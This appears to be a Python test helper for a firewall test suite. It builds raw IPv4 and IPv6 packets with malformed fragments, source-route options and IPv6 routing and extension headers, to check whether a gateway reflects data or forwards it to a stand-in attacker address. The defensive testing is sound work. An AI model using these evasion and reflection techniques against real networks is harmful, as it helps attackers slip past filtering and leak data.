#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""For test_headers.sh: headers that a kernel acts on by itself.

headers.py reflect WORD TOOLS [DEVICE]   packets under the attacker's address whose header is wrong, or that never come whole: the kernel
                                         of the gateway answers them with an error that quotes WORD.  DEVICE: as frames there, to its
                                         default gateway (else from a raw socket)
headers.py flow udp|tcp WORD             IPv4 and IPv6: an allowed flow, and then the same socket with options, routing headers and (as
                                         root) extension headers: each way's own word is WORD-WAY.  Then plain again; prints "ok FAMILY".
headers.py own ADDRESS WORD              datagrams to a listener of our own at that address, by segments that end at the attacker
headers.py echo                          TCP port 9124 of the server, for five minutes"""
import os
import re
import signal
import socket
import socketserver
import struct
import subprocess
import sys
import time

ATTACKER = "198.18.3.66", "2001:db8:3::66"
SERVER = "198.18.2.81", "2001:db8:2::81"
IPV6_HOPOPTS, IPV6_RTHDR, IPV6_DSTOPTS = 54, 57, 59


def reflect(word, tools, device=None):
    sys.path.insert(0, tools)
    import raw
    word = word.encode()

    def run(*words):
        return subprocess.run(words, capture_output=True, text=True, check=True).stdout

    if device:
        gate4 = re.search(r"default via (\S+)", run("ip", "-4", "route"))[1]
        gate6 = re.search(r"default via (\S+)", run("ip", "-6", "route"))[1]
        mac = bytes.fromhex(re.search(re.escape(gate4) + r" .*lladdr (\S+)", run("ip", "neigh"))[1].replace(":", ""))
        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        link.bind((device, 0))

        def send(packet):
            link.send(mac + link.getsockname()[4] + (b"\x08\0" if packet[0] >> 4 == 4 else b"\x86\xdd") + packet)
    else:
        gate4, gate6, send = "198.18.1.1", "2001:db8:1::1", raw.send

    def hop_by_hop(kind, to):
        options = bytes([kind, len(word)]) + word
        left = -(len(options) + 2) % 8
        options += b"" if not left else b"\0" if left == 1 else bytes([1, left - 2]) + bytes(left - 2)
        body = bytes([17, (len(options) + 2) // 8 - 1]) + options + raw.udp(to, 7777, word, src=ATTACKER[1])
        return raw.ip6(to, 0, body, src=ATTACKER[1])

    for _ in range(3):
        for kind in 0x9E, 0xDE:
            for to in gate6, SERVER[1]:
                send(hop_by_hop(kind, to))
        send(hop_by_hop(0x9E, "ff02::1"))
        padded = word + bytes(-len(word) % 8)
        send(raw.ip4(gate4, 17, raw.udp(SERVER[0], 7777, padded, src=ATTACKER[0]), src=ATTACKER[0], fragment=0x2000))
        send(raw.ip4(gate4, 1, b"\x08\0\0\0\0\1\0\1" + padded, src=ATTACKER[0], fragment=0x2000))
        # A first fragment whose length is no multiple of eight, and one that never goes on.
        send(raw.ip6(gate6, 44, struct.pack(">BBHI", 17, 0, 1, 7) + raw.udp(gate6, 7777, padded + b"x", src=ATTACKER[1]), src=ATTACKER[1]))
        send(raw.ip6(gate6, 44, struct.pack(">BBHI", 17, 0, 1, 8) + raw.udp(gate6, 7777, padded, src=ATTACKER[1]), src=ATTACKER[1]))
        time.sleep(0.05)


def ways(four):
    """Name, level, option, value; some need root."""
    if four:
        yield "route", socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(ATTACKER[0]) + b"\0"
        yield "record", socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x07\x07\x04\0\0\0\0\0"
        return
    # Segments are counted from the last: the first is where the packet goes now.
    segments = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(10, SERVER[1])
    yield "segments", socket.IPPROTO_IPV6, IPV6_RTHDR, segments
    yield "destination", socket.IPPROTO_IPV6, IPV6_DSTOPTS, bytes([0, 0, 0x1E, 4]) + b"word"
    yield "hops", socket.IPPROTO_IPV6, IPV6_HOPOPTS, bytes([0, 0, 0x1E, 4]) + b"word"


def answer(sock, data):
    """Whether it comes back; a refusal is none."""
    try:
        sock.send(data)
        return sock.recv(2000) == data
    except OSError:
        return False


def connected(kind, four, port):
    sock = socket.socket(socket.AF_INET if four else socket.AF_INET6, kind)
    sock.settimeout(5)
    sock.connect((SERVER[not four], port))
    return sock


def flow(protocol, word):
    kind, port = (socket.SOCK_DGRAM, 9123) if protocol == "udp" else (socket.SOCK_STREAM, 9124)
    for four in True, False:
        for name, level, option, value in ways(four):
            sock = connected(kind, four, port)
            if not answer(sock, b"first"):
                sys.exit("the flow is not allowed")
            try:
                sock.setsockopt(level, option, value)
            except PermissionError:
                continue
            data = f"{word}-{name}".encode()
            for _ in range(3):
                try:
                    if name == "segments" and protocol == "udp":  # to the last segment, by way of the allowed server
                        sock.connect((ATTACKER[1], port))
                    sock.send(data)
                except OSError:
                    pass
                time.sleep(0.05)
            sock.close()
        print("ok", 4 if four else 6, answer(connected(kind, four, port), b"last"), flush=True)


def own(address, word):
    ours = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    ours.bind((address, 7777))
    segments = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_pton(10, address)
    for _ in range(5):
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, segments)
        try:
            sock.sendto(word.encode(), (ATTACKER[1], 7777))
        except OSError:
            pass
        time.sleep(0.05)


class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        while data := self.request.recv(2000):
            self.request.sendall(data)


class Server(socketserver.ThreadingTCPServer):
    address_family = socket.AF_INET6
    allow_reuse_address = True
    daemon_threads = True


def echo():
    signal.alarm(300)
    server = Server(("::", 9124), Echo)
    print("ready", flush=True)
    server.serve_forever()


{"reflect": reflect, "flow": flow, "own": own, "echo": echo}[sys.argv[1]](*sys.argv[2:])
